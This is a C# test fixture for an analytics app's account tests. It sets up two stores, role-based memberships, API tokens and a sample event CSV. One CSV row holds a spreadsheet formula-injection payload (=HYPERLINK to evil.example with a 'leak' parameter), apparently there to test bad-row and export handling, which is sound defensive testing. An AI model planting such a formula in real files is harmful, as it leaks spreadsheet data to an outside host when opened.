using FunnelInsight.Tests.Web.Browser;

namespace FunnelInsight.Tests.Web;

/// <summary>
/// One running app (in the test process) shared by the HTTP tests of accounts, on SQLite (this class) or PostgreSQL
/// (<see cref="PostgresAccountsApp"/>): two stores, Alpha (with an owner, an analyst and a
/// marketer) and Bravo (with its own owner), each with an import that has a bad row, and API tokens.
/// </summary>
public class AccountsApp : IAsyncLifetime
{
    /// <summary>The collection the HTTP account tests share this app in.</summary>
    public const string Collection = "accounts app";

    /// <summary>Bravo's secret name: it must never appear in an answer to someone who is not Bravo's member.</summary>
    public const string BravoName = "Bravo Secret Shop";

    /// <summary>The upload limit the app runs with (small, so the size limit is testable).</summary>
    public const long MaxUploadBytes = 4096;

    private const string Events = """
        event_time,event_type,session_id
        2024-03-01T10:00:00Z,session_start,s1
        2024-03-01T10:01:00Z,view_item,s1
        =HYPERLINK("http://evil.example/?leak="&A1),add_to_cart,s1
        2024-03-01T11:00:00Z,session_start,s2
        """;

    private TempDatabase? _db;
    private string _exporterId = "";
    private InProcessApp? _app;

    public TempDatabase Db => _db!;

    public InProcessApp App => _app!;

    public int AlphaId { get; private set; }

    public int BravoId { get; private set; }

    public int AlphaImportId { get; private set; }

    public int BravoImportId { get; private set; }

    /// <summary>
    /// API tokens by holder: analyst, marketer, owner (Alpha), bravo-owner, revoked (was the analyst's), limited (a member
    /// of both, limited to Alpha), exporter (owner of the stores <see cref="CreateStoreAsync"/> makes, of no other).
    /// </summary>
    public Dictionary<string, string> Tokens { get; } = [];

    /// <summary>The engine of the app's database.</summary>
    protected virtual DatabaseProvider Provider => DatabaseProvider.Sqlite;

    public async Task InitializeAsync()
    {
        if (Provider.IsServer && TestServers.PostgresSkipReason is not null)
        {
            // Its tests are skipped: nothing to start.
            return;
        }

        _db = await TempDatabase.CreateAsync(Provider);
        var alpha = await Db.Stores.GetOrCreateAsync("Alpha Shop");
        var bravo = await Db.Stores.GetOrCreateAsync(BravoName);
        (AlphaId, BravoId) = (alpha.Id, bravo.Id);
        var imports = new ImportService(Db.Database);
        AlphaImportId = (await imports.ImportAsync(new ImportRequest(AlphaId, ImportKind.Events, Db.WriteFile("alpha.csv", Events)))).ImportId;
        BravoImportId = (await imports.ImportAsync(new ImportRequest(BravoId, ImportKind.Events, Db.WriteFile("bravo.csv", Events.Replace("s1", "bravo-secret-session", StringComparison.Ordinal))))).ImportId;

        var memberships = new StoreMemberships(Db.Database);
        var tokens = new ApiTokens(Db.Database);
        foreach (var (who, store, role) in new[]
        {
            ("owner", AlphaId, StoreRole.Owner), ("analyst", AlphaId, StoreRole.Analyst), ("marketer", AlphaId, StoreRole.Marketer),
            ("locked", AlphaId, StoreRole.Marketer), ("bravo-owner", BravoId, StoreRole.Owner),
        })
        {
            var userId = await TestAccounts.CreateUserAsync(Db, Email(who));
            await memberships.SetAsync(store, userId, role);
            Tokens[who] = (await tokens.CreateAsync(userId, who)).Secret;
        }

        _exporterId = await TestAccounts.CreateUserAsync(Db, Email("exporter"));
        Tokens["exporter"] = (await tokens.CreateAsync(_exporterId, "exporter")).Secret;

        var both = await TestAccounts.CreateUserAsync(Db, Email("both"));
        await memberships.SetAsync(AlphaId, both, StoreRole.Analyst);
        await memberships.SetAsync(BravoId, both, StoreRole.Analyst);
        Tokens["limited"] = (await tokens.CreateAsync(both, "alpha only", AlphaId)).Secret;

        var analystId = (await tokens.AuthenticateAsync(Tokens["analyst"]))!.UserId;
        var revoked = await tokens.CreateAsync(analystId, "old");
        await tokens.RevokeAsync(analystId, revoked.Token.Id);
        Tokens["revoked"] = revoked.Secret;

        // Sessions check their account on every request, so a test sees a sign-out end a copied cookie at once.
        _app = await InProcessApp.StartAsync(Db, new Dictionary<string, string>
        {
            ["Uploads__MaxBytes"] = MaxUploadBytes.ToString(System.Globalization.CultureInfo.InvariantCulture),
            ["Accounts__SessionCheckInterval"] = "00:00:00",
        });
    }

    /// <summary>Creates a store owned by the account "exporter" alone (so that no other test sees it).</summary>
    public async Task<int> CreateStoreAsync(string name)
    {
        var store = await Db.Stores.GetOrCreateAsync(name);
        await new StoreMemberships(Db.Database).SetAsync(store.Id, _exporterId, StoreRole.Owner);
        return store.Id;
    }

    /// <summary>Creates store <paramref name="name"/> (see <see cref="CreateStoreAsync"/>) and imports <see cref="ReportSample"/> into it.</summary>
    public async Task<int> ImportSampleAsync(string name)
    {
        var storeId = await CreateStoreAsync(name);
        var imports = new ImportService(Db.Database);
        await ReportSample.ImportIntoAsync(storeId, name, Db.WriteFile,
            async request => Assert.Equal(ImportStatus.Succeeded, (await imports.ImportAsync(request)).Status));
        return storeId;
    }

    /// <summary>The e-mail of a test account.</summary>
    public static string Email(string who) => who + "@shops.test";

    /// <summary>A client signed in as <paramref name="who"/>.</summary>
    public async Task<HttpClient> SignedInAsync(string who)
    {
        var client = App.Client();
        using var response = await TestAccounts.SignInAsync(client, Email(who));
        Assert.Equal(System.Net.HttpStatusCode.Redirect, response.StatusCode);
        return client;
    }

    /// <summary>A client sending <paramref name="who"/>'s API token.</summary>
    public HttpClient WithToken(string who)
    {
        var client = App.Client();
        client.DefaultRequestHeaders.Authorization = new System.Net.Http.Headers.AuthenticationHeaderValue("Bearer", Tokens[who]);
        return client;
    }

    public async Task DisposeAsync()
    {
        if (_app is not null)
        {
            await _app.DisposeAsync();
        }

        if (_db is not null)
        {
            await _db.DisposeAsync();
        }
    }
}

/// <summary>The accounts app on a PostgreSQL database of its own.</summary>
public sealed class PostgresAccountsApp : AccountsApp
{
    /// <summary>The collection the HTTP account tests on PostgreSQL share this app in.</summary>
    public new const string Collection = "accounts app on postgres";

    /// <inheritdoc />
    protected override DatabaseProvider Provider => DatabaseProvider.Postgres;
}
